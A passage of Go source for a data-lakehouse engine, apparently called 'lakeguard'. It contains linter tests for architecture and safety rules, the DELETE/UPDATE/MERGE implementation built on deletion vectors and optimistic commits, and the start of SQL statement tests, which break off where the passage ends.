	wantRule(t, findings, RuleImportBoundary, "internal/exec must not import internal/catalog")
}

func TestImportBoundarySubpackage(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/storage/blob/blob.go": "package blob\n\n// V is exported.\nvar V = 1\n",
		"internal/exec/vector/sum.go":   "package vector\n\nimport \"lakeguard/internal/storage/blob\"\n\n// V re-exports.\nvar V = blob.V\n",
	})
	wantRule(t, findings, RuleImportBoundary, "internal/exec must not import internal/storage")
}

func TestImportBoundaryAllowsOthers(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/core/core.go":       "package core\n\nimport \"lakeguard/internal/catalog\"\n\n// V re-exports.\nvar V = catalog.V\n",
		"internal/catalog/catalog.go": "package catalog\n\n// V is exported.\nvar V = 1\n",
	})
	wantNoRule(t, findings, RuleImportBoundary)
}

func TestErrWrapViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/a/a.go": `package a

import (
	"errors"
	"fmt"
)

// Bad drops the error chain.
func Bad() error {
	err := errors.New("inner")
	return fmt.Errorf("outer: %v", err)
}

// Good wraps.
func Good() error {
	err := errors.New("inner")
	return fmt.Errorf("outer: %w", err)
}

// NotAnError formats a plain value.
func NotAnError(n int) error {
	return fmt.Errorf("bad count: %d", n)
}
`,
	})
	wantRule(t, findings, RuleErrWrap, "")
	count := 0
	for _, f := range findings {
		if f.Rule == RuleErrWrap {
			count++
			if f.Line != 11 {
				t.Errorf("errwrap finding at line %d, want 11", f.Line)
			}
		}
	}
	if count != 1 {
		t.Errorf("errwrap findings = %d, want exactly 1 (Good and NotAnError are fine)", count)
	}
}

func TestLockByValueViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/a/a.go": `package a

import "sync"

// Guarded holds a lock.
type Guarded struct {
	mu sync.Mutex
	n  int
}

// Bad copies the lock.
func Bad(g Guarded) int { return g.n }

// BadRecv copies via the receiver.
func (g Guarded) BadRecv() int { return g.n }

// Good takes a pointer.
func Good(g *Guarded) int { return g.n }
`,
	})
	count := 0
	for _, f := range findings {
		if f.Rule == RuleLockByValue {
			count++
		}
	}
	if count != 2 {
		t.Fatalf("lock-by-value findings = %d, want 2 (param and receiver): %v", count, findings)
	}
}

func TestSecurityContextViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/security/security.go": `package security

// RequestContext identifies a caller.
type RequestContext struct {
	User string
}
`,
		"internal/catalog/catalog.go": `package catalog

import "lakeguard/internal/security"

// RequestContext aliases the shared model.
type RequestContext = security.RequestContext

// Catalog is the metastore.
type Catalog struct{}

// Drop has no caller identity: must be flagged.
func (c *Catalog) Drop(name string) error { return nil }

// Resolve carries the context via the alias: fine.
func (c *Catalog) Resolve(ctx RequestContext, name string) error { return nil }

// Audit is exempt infrastructure.
func (c *Catalog) Audit() int { return 0 }

// internalHelper is unexported: out of scope.
func (c *Catalog) internalHelper() {}
`,
		"internal/core/core.go": `package core

// Server is a cluster.
type Server struct{}

// Execute carries identity through session parameters: fine.
func (s *Server) Execute(sessionID, user string) error { return nil }

// Leak has no identity: must be flagged.
func (s *Server) Leak() error { return nil }
`,
	})
	wantRule(t, findings, RuleSecurityContext, "Catalog.Drop")
	wantRule(t, findings, RuleSecurityContext, "Server.Leak")
	count := 0
	for _, f := range findings {
		if f.Rule == RuleSecurityContext {
			count++
		}
	}
	if count != 2 {
		t.Fatalf("security-context findings = %d, want 2: %v", count, findings)
	}
}

func TestTypecheckFailureReported(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/a/a.go": "package a\n\n// V is mistyped.\nvar V int = \"not an int\"\n",
	})
	wantRule(t, findings, RuleTypecheck, "")
}

func TestTestFilesAreExcluded(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/catalog/catalog.go":  "package catalog\n\n// V is exported.\nvar V = 1\n",
		"internal/exec/engine.go":      "package exec\n\n// V is exported.\nvar V = 1\n",
		"internal/exec/engine_test.go": "package exec\n\nimport (\n\t\"testing\"\n\n\t\"lakeguard/internal/catalog\"\n)\n\nfunc TestV(t *testing.T) { _ = catalog.V }\n",
	})
	wantNoRule(t, findings, RuleImportBoundary)
}

func TestSelectDoneViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/sandbox/sandbox.go": `package sandbox

// Wait blocks on a sandbox channel with no escape arm.
func Wait(respCh <-chan int, other chan int) int {
	select {
	case v := <-respCh:
		return v
	case other <- 1:
		return 0
	}
}
`,
	})
	wantRule(t, findings, RuleSelectDone, "no escape arm")
}

func TestSelectDoneEscapeArmsAccepted(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/sandbox/sandbox.go": `package sandbox

import (
	"context"
	"time"
)

// WaitDone escapes via a done channel.
func WaitDone(respCh <-chan int, done <-chan struct{}) int {
	select {
	case v := <-respCh:
		return v
	case <-done:
		return -1
	}
}

// WaitCtx escapes via ctx.Done().
func WaitCtx(ctx context.Context, respCh <-chan int) int {
	select {
	case v := <-respCh:
		return v
	case <-ctx.Done():
		return -1
	}
}

// WaitTimer escapes via a timer arm.
func WaitTimer(respCh <-chan int, t *time.Timer, timeoutC <-chan time.Time) int {
	select {
	case v := <-respCh:
		return v
	case <-t.C:
		return -1
	case <-timeoutC:
		return -2
	}
}

// Poll escapes via default.
func Poll(respCh <-chan int) int {
	select {
	case v := <-respCh:
		return v
	default:
		return -1
	}
}
`,
	})
	wantNoRule(t, findings, RuleSelectDone)
}

func TestSelectDoneScopedToSandbox(t *testing.T) {
	// The same escape-free select outside internal/sandbox is not flagged:
	// the rule encodes the sandbox layer's liveness contract, not a global
	// style preference.
	findings := lintModule(t, map[string]string{
		"internal/gateway/gw.go": `package gateway

// Wait blocks without an escape arm; allowed outside the sandbox layer.
func Wait(ch <-chan int) int {
	select {
	case v := <-ch:
		return v
	}
}
`,
	})
	wantNoRule(t, findings, RuleSelectDone)
}

// spanFixture is a minimal telemetry package the span-end rule resolves
// against (matched by type name Span in a package path ending in
// internal/telemetry).
const spanFixture = `package telemetry

import "context"

// Span is one traced operation.
type Span struct{ name string }

// End closes the span.
func (s *Span) End() {}

// EndErr closes the span recording err.
func (s *Span) EndErr(err error) {}

// SetAttr annotates the span.
func (s *Span) SetAttr(k, v string) {}

// StartSpan opens a child span.
func StartSpan(ctx context.Context, name string) (context.Context, *Span) {
	return ctx, &Span{name: name}
}

// SpanFrom returns the ambient span without opening one.
func SpanFrom(ctx context.Context) *Span { return nil }
`

func TestSpanEndViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/telemetry/telemetry.go": spanFixture,
		"internal/gateway/gw.go": `package gateway

import (
	"context"

	"lakeguard/internal/telemetry"
)

// Leak starts a span, annotates it, and never ends it.
func Leak(ctx context.Context) {
	_, sp := telemetry.StartSpan(ctx, "gateway.leak")
	sp.SetAttr("k", "v")
}
`,
	})
	wantRule(t, findings, RuleSpanEnd, "span sp is started but never ended")
}

func TestSpanEndBlankViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/telemetry/telemetry.go": spanFixture,
		"internal/gateway/gw.go": `package gateway

import (
	"context"

	"lakeguard/internal/telemetry"
)

// Drop discards the span result outright.
func Drop(ctx context.Context) context.Context {
	ctx, _ = telemetry.StartSpan(ctx, "gateway.drop")
	return ctx
}
`,
	})
	wantRule(t, findings, RuleSpanEnd, "bound to _")
}

func TestSpanEndAccepted(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/telemetry/telemetry.go": spanFixture,
		"internal/gateway/gw.go": `package gateway

import (
	"context"
	"errors"

	"lakeguard/internal/telemetry"
)

// holder owns a span; its Close ends it.
type holder struct{ sp *telemetry.Span }

// Ended ends via EndErr.
func Ended(ctx context.Context) error {
	_, sp := telemetry.StartSpan(ctx, "a")
	err := errors.New("x")
	sp.EndErr(err)
	return err
}

// Deferred ends via defer.
func Deferred(ctx context.Context) {
	_, sp := telemetry.StartSpan(ctx, "b")
	defer sp.End()
}

// Escapes hands spans to an owner: a call, a struct, a return.
func Escapes(ctx context.Context) *telemetry.Span {
	var spans []*telemetry.Span
	_, ws := telemetry.StartSpan(ctx, "c")
	spans = append(spans, ws)
	endAll(spans)
	_, held := telemetry.StartSpan(ctx, "d")
	h := holder{sp: held}
	_ = h
	_, ret := telemetry.StartSpan(ctx, "e")
	return ret
}

// Ambient reads the ambient span without starting one: no End obligation.
func Ambient(ctx context.Context) {
	sp := telemetry.SpanFrom(ctx)
	sp.SetAttr("k", "v")
}

func endAll(spans []*telemetry.Span) {
	for _, s := range spans {
		s.End()
	}
}
`,
	})
	wantNoRule(t, findings, RuleSpanEnd)
}

// exprInErrorPlan is a minimal stand-in for internal/plan: the Expr
// interface, one concrete expression, and the sanctioned redactor.
const exprInErrorPlan = `package plan

// Expr is a plan expression.
type Expr interface{ String() string }

// Lit is a literal expression.
type Lit struct{ V string }

// String renders the literal (leaks V).
func (l *Lit) String() string { return l.V }

// RedactedString renders e with literal values elided.
func RedactedString(e Expr) string { _ = e; return "<redacted>" }
`

func TestExprInErrorViolation(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/plan/expr.go": exprInErrorPlan,
		"internal/sentinel/s.go": `package sentinel

import (
	"fmt"

	"lakeguard/internal/plan"
)

// BadDirect formats the expression value itself.
func BadDirect(e plan.Expr) error { return fmt.Errorf("predicate %v rejected", e) }

// BadString launders the expression through String().
func BadString(l *plan.Lit) string { return fmt.Sprintf("predicate %s rejected", l.String()) }
`,
	})
	n := 0
	for _, f := range findings {
		if f.Rule == RuleExprInError {
			n++
		}
	}
	if n != 2 {
		t.Fatalf("want 2 expr-in-error findings, got %d in %v", n, findings)
	}
}

func TestExprInErrorAcceptsRedaction(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/plan/expr.go": exprInErrorPlan,
		"internal/sentinel/s.go": `package sentinel

import (
	"fmt"

	"lakeguard/internal/plan"
)

// GoodRedacted uses the sanctioned form.
func GoodRedacted(e plan.Expr) error { return fmt.Errorf("predicate %s rejected", plan.RedactedString(e)) }

// GoodType only names the dynamic type — no literals leak through %T.
func GoodType(e plan.Expr) error { return fmt.Errorf("unsupported expression %T", e) }
`,
	})
	wantNoRule(t, findings, RuleExprInError)
}

// TestExprInErrorScoped proves the rule only bites on the boundary packages:
// the engine may format expressions in internal diagnostics.
func TestExprInErrorScoped(t *testing.T) {
	findings := lintModule(t, map[string]string{
		"internal/plan/expr.go": exprInErrorPlan,
		"internal/exec/e.go": `package exec

import (
	"fmt"

	"lakeguard/internal/plan"
)

// Debug formats an expression outside the governance boundary.
func Debug(e plan.Expr) string { return fmt.Sprintf("exec over %v", e) }
`,
	})
	wantNoRule(t, findings, RuleExprInError)
}
