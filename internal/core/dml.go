package core

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"lakeguard/internal/catalog"
	"lakeguard/internal/delta"
	"lakeguard/internal/eval"
	"lakeguard/internal/exec"
	"lakeguard/internal/plan"
	"lakeguard/internal/session"
	"lakeguard/internal/types"
)

// dmlAttempts bounds optimistic-concurrency replans for one DML statement.
// Each attempt re-reads the snapshot and recomputes matches, so a statement
// only fails when the table sustains this many conflicting commits during it.
const dmlAttempts = 8

// dmlScope is one namespace visible to a DML expression: the qualifiers that
// name it, its schema, and the column offset of its fields in the combined
// evaluation row.
type dmlScope struct {
	names  []string
	schema *types.Schema
	base   int
}

func tableScope(parts []string, alias string, schema *types.Schema, base int) dmlScope {
	names := []string{strings.ToLower(parts[len(parts)-1]), strings.ToLower(strings.Join(parts, "."))}
	if alias != "" {
		names = append(names, strings.ToLower(alias))
	}
	return dmlScope{names: names, schema: schema, base: base}
}

func (sc dmlScope) matches(qualifier string) bool {
	q := strings.ToLower(qualifier)
	for _, n := range sc.names {
		if n == q {
			return true
		}
	}
	return false
}

// bindDMLExpr resolves ColumnRefs against the scopes, producing BoundRefs
// whose ordinals index the combined row (target columns then source columns
// for MERGE). Unqualified names must be unambiguous across scopes.
func bindDMLExpr(e plan.Expr, scopes []dmlScope) (plan.Expr, error) {
	var bindErr error
	out := plan.TransformExpr(plan.CloneExpr(e), func(x plan.Expr) plan.Expr {
		cr, ok := x.(*plan.ColumnRef)
		if !ok || bindErr != nil {
			return x
		}
		var found *plan.BoundRef
		for _, sc := range scopes {
			if cr.Qualifier != "" && !sc.matches(cr.Qualifier) {
				continue
			}
			idx := sc.schema.IndexOf(cr.Name)
			if idx < 0 {
				continue
			}
			f := sc.schema.Fields[idx]
			if found != nil {
				bindErr = fmt.Errorf("core: column %q is ambiguous; qualify it", cr.String())
				return x
			}
			found = &plan.BoundRef{Index: sc.base + idx, Name: f.Name, Kind: f.Kind}
		}
		if found == nil {
			bindErr = fmt.Errorf("core: unknown column %q", cr.String())
			return x
		}
		return found
	})
	return out, bindErr
}

type boundAssign struct {
	col  int // target column ordinal
	kind types.Kind
	expr plan.Expr
}

func bindAssignments(set []plan.Assignment, target *types.Schema, scopes []dmlScope) ([]boundAssign, error) {
	out := make([]boundAssign, 0, len(set))
	for _, a := range set {
		idx := target.IndexOf(a.Column)
		if idx < 0 {
			return nil, fmt.Errorf("core: SET references unknown column %q", a.Column)
		}
		bound, err := bindDMLExpr(a.Value, scopes)
		if err != nil {
			return nil, err
		}
		out = append(out, boundAssign{col: idx, kind: target.Fields[idx].Kind, expr: bound})
	}
	return out, nil
}

func (s *Server) evalContext(ctx catalog.RequestContext) *eval.Context {
	return &eval.Context{
		User:          ctx.User,
		IsGroupMember: func(g string) bool { return s.cat.IsGroupMember(ctx.User, g) },
	}
}

// applyAssignments produces the updated copy of one row: the original values
// with each SET column replaced by its expression over the combined row.
func applyAssignments(target []types.Value, combined eval.RowFn, set []boundAssign, ectx *eval.Context) ([]types.Value, error) {
	updated := append([]types.Value(nil), target...)
	for _, a := range set {
		v, err := eval.Eval(a.expr, combined, ectx)
		if err != nil {
			return nil, err
		}
		cv, err := v.Cast(a.kind)
		if err != nil {
			return nil, fmt.Errorf("core: SET column %d: %w", a.col+1, err)
		}
		updated[a.col] = cv
	}
	return updated, nil
}

// executeDelete marks matching rows deleted via per-file deletion vectors:
// no data file is read for an unconditional DELETE and none is rewritten for
// a conditional one — the commit is a single log entry.
func (s *Server) executeDelete(qctx context.Context, ctx catalog.RequestContext, st *session.State, c *plan.DeleteFrom) (*types.Schema, *types.Batch, error) {
	matched, version, err := s.executeRowDML(ctx, c.Table, "DELETE", c.Where, nil)
	if err != nil {
		return nil, nil, err
	}
	schema, b := okBatch(fmt.Sprintf("deleted %d rows (version %d)", matched, version))
	return schema, b, nil
}

// executeUpdate rewrites matching rows in place: their old versions join the
// files' deletion vectors and one appended file carries the updated copies.
func (s *Server) executeUpdate(qctx context.Context, ctx catalog.RequestContext, st *session.State, c *plan.Update) (*types.Schema, *types.Batch, error) {
	matched, version, err := s.executeRowDML(ctx, c.Table, "UPDATE", c.Where, c.Set)
	if err != nil {
		return nil, nil, err
	}
	schema, b := okBatch(fmt.Sprintf("updated %d rows (version %d)", matched, version))
	return schema, b, nil
}

// executeRowDML is the shared DELETE/UPDATE engine: evaluate the predicate
// per row over the raw table, mask matches through deletion vectors, append
// updated copies when set is given, and commit optimistically with Expect
// guards so a concurrent writer forces a clean replan instead of lost rows.
func (s *Server) executeRowDML(ctx catalog.RequestContext, table []string, op string, where plan.Expr, set []plan.Assignment) (int64, int64, error) {
	meta, err := s.cat.ResolveTable(ctx, table)
	if err != nil {
		return 0, 0, err
	}
	if err := s.cat.AuthorizeTableDML(ctx, table, op); err != nil {
		return 0, 0, err
	}
	scopes := []dmlScope{tableScope(table, "", meta.Schema, 0)}
	var bWhere plan.Expr
	if where != nil {
		if bWhere, err = bindDMLExpr(where, scopes); err != nil {
			return 0, 0, err
		}
	}
	var bSet []boundAssign
	if set != nil {
		if bSet, err = bindAssignments(set, meta.Schema, scopes); err != nil {
			return 0, 0, err
		}
	}
	ectx := s.evalContext(ctx)
	for attempt := 0; attempt < dmlAttempts; attempt++ {
		snap, read, err := s.cat.OpenSnapshot(ctx, meta.FullName, -1)
		if err != nil {
			return 0, 0, err
		}
		m := delta.Mutation{Operation: op}
		var matched int64
		// Unconditional DELETE: drop every live file without a single GET.
		if bWhere == nil && bSet == nil {
			for _, f := range snap.Files {
				if f.LiveRecords() == 0 {
					continue
				}
				m.RemovePaths = append(m.RemovePaths, f.Path)
				m.Expect = append(m.Expect, delta.FileExpectation{Path: f.Path, DVCardinality: f.DV.Cardinality()})
				matched += f.LiveRecords()
			}
		} else {
			candidates := make([]int, 0, len(snap.Files))
			if bWhere != nil {
				candidates = exec.PruneFilesForPredicate(meta.Schema, bWhere, snap.Files)
			} else {
				for i := range snap.Files {
					candidates = append(candidates, i)
				}
			}
			var updated *types.BatchBuilder
			if bSet != nil {
				updated = types.NewBatchBuilder(meta.Schema, 0)
			}
			for _, fi := range candidates {
				f := snap.Files[fi]
				if f.DV.Covers(f.NumRecords) {
					continue // already fully deleted; pruned from scans too
				}
				b, err := read(f.Path)
				if err != nil {
					return 0, 0, err
				}
				var hits []int64
				for r := 0; r < b.NumRows(); r++ {
					if f.DV.Has(int64(r)) {
						continue
					}
					row := b.Row(r)
					rowFn := func(i int) types.Value { return row[i] }
					if bWhere != nil {
						ok, err := eval.EvalPredicate(bWhere, rowFn, ectx)
						if err != nil {
							return 0, 0, fmt.Errorf("core: %s WHERE: %w", op, err)
						}
						if !ok {
							continue
						}
					}
					hits = append(hits, int64(r))
					if updated != nil {
						vals, err := applyAssignments(row, rowFn, bSet, ectx)
						if err != nil {
							return 0, 0, err
						}
						updated.AppendRow(vals)
					}
				}
				if len(hits) == 0 {
					continue
				}
				matched += int64(len(hits))
				if m.SetDVs == nil {
					m.SetDVs = map[string]*delta.DeletionVector{}
				}
				m.SetDVs[f.Path] = f.DV.Union(hits)
				m.Expect = append(m.Expect, delta.FileExpectation{Path: f.Path, DVCardinality: f.DV.Cardinality()})
			}
			if updated != nil {
				if ub := updated.Build(); ub.NumRows() > 0 {
					m.AddBatches = append(m.AddBatches, ub)
				}
			}
		}
		if matched == 0 {
			return 0, snap.Version, nil
		}
		v, err := s.cat.MutateTable(ctx, table, m)
		if errors.Is(err, delta.ErrConcurrentCommit) {
			continue
		}
		if err != nil {
			return 0, 0, err
		}
		return matched, v, nil
	}
	return 0, 0, fmt.Errorf("core: %s on %s: %w after %d attempts", op, meta.FullName, delta.ErrConcurrentCommit, dmlAttempts)
}

// executeMerge implements MERGE INTO on the same deletion-vector machinery:
// matched target rows are DV-masked (and, for UPDATE, re-appended with their
// assignments applied); source rows no target row matched are inserted. The
// source relation runs through the full query path, so row filters and masks
// on source tables apply to what the merge can see.
func (s *Server) executeMerge(qctx context.Context, ctx catalog.RequestContext, st *session.State, c *plan.MergeInto) (*types.Schema, *types.Batch, error) {
	meta, err := s.cat.ResolveTable(ctx, c.Table)
	if err != nil {
		return nil, nil, err
	}
	if err := s.cat.AuthorizeTableDML(ctx, c.Table, "MERGE"); err != nil {
		return nil, nil, err
	}
	if c.InsertValues != nil && len(c.InsertValues) != meta.Schema.Len() {
		return nil, nil, fmt.Errorf("core: MERGE INSERT has %d values for %d columns of %s",
			len(c.InsertValues), meta.Schema.Len(), meta.FullName)
	}
	srcSchema, srcBatches, err := s.runQuery(qctx, ctx, st, c.Source)
	if err != nil {
		return nil, nil, err
	}
	var srcRows [][]types.Value
	for _, b := range srcBatches {
		srcRows = append(srcRows, b.Rows()...)
	}
	tgt := tableScope(c.Table, c.TableAlias, meta.Schema, 0)
	src := dmlScope{schema: srcSchema, base: meta.Schema.Len()}
	if c.SourceAlias != "" {
		src.names = append(src.names, strings.ToLower(c.SourceAlias))
	}
	if rel, ok := c.Source.(*plan.UnresolvedRelation); ok && len(rel.Parts) > 0 {
		src.names = append(src.names, strings.ToLower(rel.Parts[len(rel.Parts)-1]))
	}
	both := []dmlScope{tgt, src}
	bOn, err := bindDMLExpr(c.On, both)
	if err != nil {
		return nil, nil, err
	}
	var bSet []boundAssign
	if len(c.MatchedSet) > 0 {
		if bSet, err = bindAssignments(c.MatchedSet, meta.Schema, both); err != nil {
			return nil, nil, err
		}
	}
	var bInsert []plan.Expr
	for _, e := range c.InsertValues {
		be, err := bindDMLExpr(e, []dmlScope{{names: src.names, schema: srcSchema, base: 0}})
		if err != nil {
			return nil, nil, err
		}
		bInsert = append(bInsert, be)
	}
	ectx := s.evalContext(ctx)
	for attempt := 0; attempt < dmlAttempts; attempt++ {
		snap, read, err := s.cat.OpenSnapshot(ctx, meta.FullName, -1)
		if err != nil {
			return nil, nil, err
		}
		m := delta.Mutation{Operation: "MERGE"}
		srcMatched := make([]bool, len(srcRows))
		var updatedRows, deletedRows, insertedRows int64
		changed := types.NewBatchBuilder(meta.Schema, 0)
		for _, f := range snap.Files {
			if f.DV.Covers(f.NumRecords) {
				continue
			}
			b, err := read(f.Path)
			if err != nil {
				return nil, nil, err
			}
			var hits []int64
			for r := 0; r < b.NumRows(); r++ {
				if f.DV.Has(int64(r)) {
					continue
				}
				row := b.Row(r)
				var match []types.Value
				for si, srow := range srcRows {
					combined := append(append([]types.Value(nil), row...), srow...)
					ok, err := eval.EvalPredicate(bOn, func(i int) types.Value { return combined[i] }, ectx)
					if err != nil {
						return nil, nil, fmt.Errorf("core: MERGE ON: %w", err)
					}
					if ok {
						srcMatched[si] = true
						if match == nil {
							match = combined // first matching source row drives the action
						}
					}
				}
				if match == nil {
					continue
				}
				switch {
				case c.MatchedDelete:
					hits = append(hits, int64(r))
					deletedRows++
				case bSet != nil:
					vals, err := applyAssignments(row, func(i int) types.Value { return match[i] }, bSet, ectx)
					if err != nil {
						return nil, nil, err
					}
					hits = append(hits, int64(r))
					changed.AppendRow(vals)
					updatedRows++
				}
			}
			if len(hits) == 0 {
				continue
			}
			if m.SetDVs == nil {
				m.SetDVs = map[string]*delta.DeletionVector{}
			}
			m.SetDVs[f.Path] = f.DV.Union(hits)
			m.Expect = append(m.Expect, delta.FileExpectation{Path: f.Path, DVCardinality: f.DV.Cardinality()})
		}
		if bInsert != nil {
			for si, srow := range srcRows {
				if srcMatched[si] {
					continue
				}
				vals := make([]types.Value, len(bInsert))
				for i, e := range bInsert {
					v, err := eval.Eval(e, func(j int) types.Value { return srow[j] }, ectx)
					if err != nil {
						return nil, nil, fmt.Errorf("core: MERGE INSERT: %w", err)
					}
					cv, err := v.Cast(meta.Schema.Fields[i].Kind)
					if err != nil {
						return nil, nil, fmt.Errorf("core: MERGE INSERT column %q: %w", meta.Schema.Fields[i].Name, err)
					}
					vals[i] = cv
				}
				changed.AppendRow(vals)
				insertedRows++
			}
		}
		if cb := changed.Build(); cb.NumRows() > 0 {
			m.AddBatches = append(m.AddBatches, cb)
		}
		if updatedRows+deletedRows+insertedRows == 0 {
			schema, b := okBatch("merge matched 0 rows")
			return schema, b, nil
		}
		v, err := s.cat.MutateTable(ctx, c.Table, m)
		if errors.Is(err, delta.ErrConcurrentCommit) {
			continue
		}
		if err != nil {
			return nil, nil, err
		}
		schema, b := okBatch(fmt.Sprintf("merged: %d updated, %d deleted, %d inserted (version %d)",
			updatedRows, deletedRows, insertedRows, v))
		return schema, b, nil
	}
	return nil, nil, fmt.Errorf("core: MERGE on %s: %w after %d attempts", meta.FullName, delta.ErrConcurrentCommit, dmlAttempts)
}

// executeOptimize runs bin-packing compaction on a table.
func (s *Server) executeOptimize(ctx catalog.RequestContext, c *plan.OptimizeTable) (*types.Schema, *types.Batch, error) {
	stats, err := s.cat.CompactTable(ctx, c.Table, c.TargetBytes)
	if err != nil {
		return nil, nil, err
	}
	if stats.FilesIn == 0 {
		schema, b := okBatch("nothing to compact")
		return schema, b, nil
	}
	schema, b := okBatch(fmt.Sprintf("compacted %d files into %d (%d -> %d bytes, %d deleted rows dropped, version %d)",
		stats.FilesIn, stats.FilesOut, stats.BytesIn, stats.BytesOut, stats.DVRowsDropped, stats.Version))
	return schema, b, nil
}

// executeVacuum deletes unreferenced storage objects for a table.
func (s *Server) executeVacuum(ctx catalog.RequestContext, c *plan.VacuumTable) (*types.Schema, *types.Batch, error) {
	res, err := s.cat.VacuumTable(ctx, c.Table)
	if err != nil {
		return nil, nil, err
	}
	schema, b := okBatch(fmt.Sprintf("vacuumed %d tombstoned and %d orphaned objects (version %d)",
		res.TombstonesDeleted, res.OrphansDeleted, res.Version))
	return schema, b, nil
}
