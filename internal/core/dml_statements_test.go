package core

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
)

func TestUpdateStatement(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	b := mustExec(t, c, "UPDATE sales SET amount = amount * 2 WHERE region = 'EU'")
	if !strings.Contains(b.Cols[0].StringAt(0), "updated 2 rows") {
		t.Fatalf("update result: %s", b.Cols[0].StringAt(0))
	}
	sum, err := c.Sql("SELECT SUM(amount) AS s FROM sales WHERE region = 'EU'").Collect()
	if err != nil || sum.Cols[0].Float64(0) != 1000 { // (200+300)*2
		t.Fatalf("EU sum after update = %v, %v", sum, err)
	}
	// Untouched rows keep their values, and the row count never changes.
	us, _ := c.Sql("SELECT SUM(amount) AS s FROM sales WHERE region = 'US'").Collect()
	if us.Cols[0].Float64(0) != 225 {
		t.Fatalf("US sum after update = %v", us.Cols[0].Float64(0))
	}
	n, _ := c.Table("sales").Count()
	if n != 6 {
		t.Fatalf("rows after update = %d", n)
	}
	// Time travel still sees pre-update values.
	old, err := c.Sql("SELECT SUM(amount) AS s FROM sales VERSION AS OF 1 WHERE region = 'EU'").Collect()
	if err != nil || old.Cols[0].Float64(0) != 500 {
		t.Fatalf("pre-update EU sum: %v, %v", old, err)
	}
	// A no-match UPDATE commits nothing.
	b = mustExec(t, c, "UPDATE sales SET amount = 0 WHERE region = 'MARS'")
	if !strings.Contains(b.Cols[0].StringAt(0), "updated 0 rows") {
		t.Fatalf("no-match update result: %s", b.Cols[0].StringAt(0))
	}
}

func TestUpdateRequiresModify(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	alice := e.client("tok-alice")
	if _, err := alice.ExecSQL("UPDATE sales SET amount = 0 WHERE region = 'US'"); err == nil {
		t.Fatal("update without MODIFY should fail")
	}
	mustExec(t, c, "GRANT MODIFY ON sales TO 'alice@corp.com'")
	if _, err := alice.ExecSQL("UPDATE sales SET amount = 1 WHERE region = 'APAC'"); err != nil {
		t.Fatalf("update with MODIFY: %v", err)
	}
}

func TestMergeIntoUpsert(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE staging (seller STRING, amount DOUBLE)")
	mustExec(t, c, "INSERT INTO staging VALUES ('ann', 999), ('eve', 10)")
	b := mustExec(t, c, `MERGE INTO sales AS t USING staging AS s ON t.seller = s.seller
		WHEN MATCHED THEN UPDATE SET amount = s.amount
		WHEN NOT MATCHED THEN INSERT VALUES (s.amount, CAST('2024-12-03' AS DATE), s.seller, 'EU')`)
	if !strings.Contains(b.Cols[0].StringAt(0), "merged: 2 updated, 0 deleted, 1 inserted") {
		t.Fatalf("merge result: %s", b.Cols[0].StringAt(0))
	}
	n, _ := c.Table("sales").Count()
	if n != 7 {
		t.Fatalf("rows after merge = %d, want 7", n)
	}
	ann, _ := c.Sql("SELECT SUM(amount) AS s FROM sales WHERE seller = 'ann'").Collect()
	if ann.Cols[0].Float64(0) != 1998 {
		t.Fatalf("ann amounts after merge = %v", ann.Cols[0].Float64(0))
	}
	eve, _ := c.Sql("SELECT amount, region FROM sales WHERE seller = 'eve'").Collect()
	if eve.NumRows() != 1 || eve.Cols[0].Float64(0) != 10 || eve.Cols[1].StringAt(0) != "EU" {
		t.Fatalf("inserted row wrong:\n%s", eve.String())
	}

	// WHEN MATCHED THEN DELETE on the same machinery.
	mustExec(t, c, "CREATE TABLE gone (seller STRING)")
	mustExec(t, c, "INSERT INTO gone VALUES ('ben')")
	b = mustExec(t, c, `MERGE INTO sales USING gone ON sales.seller = gone.seller
		WHEN MATCHED THEN DELETE`)
	if !strings.Contains(b.Cols[0].StringAt(0), "merged: 0 updated, 2 deleted, 0 inserted") {
		t.Fatalf("merge-delete result: %s", b.Cols[0].StringAt(0))
	}
	left, _ := c.Sql("SELECT COUNT(*) AS n FROM sales WHERE seller = 'ben'").Collect()
	if left.Cols[0].Int64(0) != 0 {
		t.Fatal("ben rows survived merge delete")
	}

	// A merge that changes nothing reports so without committing.
	b = mustExec(t, c, `MERGE INTO sales USING gone ON sales.seller = gone.seller
		WHEN MATCHED THEN DELETE`)
	if !strings.Contains(b.Cols[0].StringAt(0), "merge matched 0 rows") {
		t.Fatalf("no-op merge result: %s", b.Cols[0].StringAt(0))
	}
}

func TestOptimizeCompactsSmallFiles(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	mustExec(t, c, "CREATE TABLE tiny (n BIGINT)")
	// Each INSERT is its own commit and data file.
	for i := 0; i < 5; i++ {
		mustExec(t, c, fmt.Sprintf("INSERT INTO tiny VALUES (%d)", i))
	}
	b := mustExec(t, c, "OPTIMIZE tiny")
	if !strings.Contains(b.Cols[0].StringAt(0), "compacted 5 files into 1") {
		t.Fatalf("optimize result: %s", b.Cols[0].StringAt(0))
	}
	// Logical content is unchanged, in order.
	rows, err := c.Sql("SELECT n FROM tiny ORDER BY n").Collect()
	if err != nil || rows.NumRows() != 5 {
		t.Fatalf("rows after optimize: %v, %v", rows, err)
	}
	for i := 0; i < 5; i++ {
		if rows.Cols[0].Int64(i) != int64(i) {
